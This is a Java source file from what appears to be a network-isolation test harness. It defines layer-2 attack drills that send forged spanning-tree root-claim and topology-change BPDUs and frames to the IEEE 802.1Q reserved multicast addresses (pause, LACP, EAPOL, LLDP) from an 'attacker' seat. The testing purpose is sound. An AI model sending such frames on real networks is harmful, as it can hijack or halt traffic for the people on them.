package io.isolane.tools.attack.program;

import io.isolane.tools.attack.drill.Attack;
import io.isolane.tools.attack.drill.Shot;
import io.isolane.tools.attack.drill.Volley;
import io.isolane.tools.attack.packet.ControlFrame;
import io.isolane.tools.attack.packet.CraftedFrame;
import io.isolane.tools.attack.site.Guard;
import io.isolane.tools.attack.site.Layout;
import io.isolane.tools.attack.site.Seat;
import io.isolane.tools.attack.site.Site;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** What only neighbours on one wire say to each other, sent by a guest. Stateless. */
final class ControlAttacks {
    /** Two hello times: a bridge that believes in the root has said so. */
    private static final Duration HELLOS = Duration.ofSeconds(4);

    private static final int SLOW_PROTOCOLS = 0x8809;
    private static final int PAUSE = 0x8808;
    private static final int EAPOL = 0x888e;
    private static final int LLDP = 0x88cc;

    private ControlAttacks() {}

    /** Frames to the sixteen addresses of IEEE 802.1Q, table 8-1. */
    static Attack reservedMulticast() {
        return new Volley(
                "reserved-multicast",
                "sends pause, LACP, EAPOL, LLDP and more to 01-80-C2-00-00-00 to -0F, to be taken for a switch",
                Guard.LINK_LOCAL,
                Layout.FLAT,
                List.of(),
                Seat.ATTACKER,
                site -> reserved(),
                Targets.neighbours(),
                Duration.ZERO);
    }

    /** Spanning tree messages of the best root there can be. */
    static Attack rootClaim() {
        return new Volley(
                "bpdu-root",
                "claims to be the root of the spanning tree, to get the traffic of the network or stop it",
                Guard.LINK_LOCAL,
                Layout.FLAT,
                List.of(),
                Seat.ATTACKER,
                site -> rootClaims(),
                ControlAttacks::isBelieved,
                HELLOS);
    }

    private static List<Shot> reserved() {
        List<Shot> shots = new ArrayList<>();
        for (int number = 0; number < ControlFrame.RESERVED; number++) {
            CraftedFrame frame = ControlFrame.reserved(number, Seat.ATTACKER.mac(), usualType(number));
            String variant = String.format(Locale.ROOT, "-%02X", number);
            shots.add(Shot.of(variant, frame));
            shots.add(Shot.of(variant + " behind a priority tag", frame.tagged(0)));
        }
        return shots;
    }

    private static int usualType(int number) {
        return switch (number) {
            case 1 -> PAUSE;
            case 2 -> SLOW_PROTOCOLS;
            case 3 -> EAPOL;
            default -> LLDP;
        };
    }

    private static List<Shot> rootClaims() {
        long mac = Seat.ATTACKER.mac();
        return List.of(
                Shot.of("spanning tree", ControlFrame.rootClaim(mac)),
                Shot.of("rapid spanning tree", ControlFrame.rapidRootClaim(mac)),
                Shot.of("topology change", ControlFrame.topologyChange(mac)),
                Shot.of("behind a priority tag", ControlFrame.rootClaim(mac).tagged(0)));
    }

    private static boolean isBelieved(Site site, Seat seat, byte[] frame) {
        return Targets.neighbours().isHit(site, seat, frame) || ControlFrame.namesRoot(frame, Seat.ATTACKER.mac());
    }
}
